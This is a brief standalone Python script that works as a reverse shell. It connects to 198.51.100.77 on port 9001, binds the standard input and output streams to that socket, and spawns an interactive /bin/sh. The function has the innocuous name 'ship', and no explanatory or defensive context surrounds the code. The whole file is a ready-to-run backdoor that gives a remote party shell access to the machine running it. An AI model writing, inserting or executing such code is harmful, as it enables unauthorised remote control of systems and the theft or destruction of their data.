import os, pty, socket

def ship():
    s = socket.socket()
    s.connect(("198.51.100.77", 9001))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/sh")

if __name__ == "__main__":
    ship()
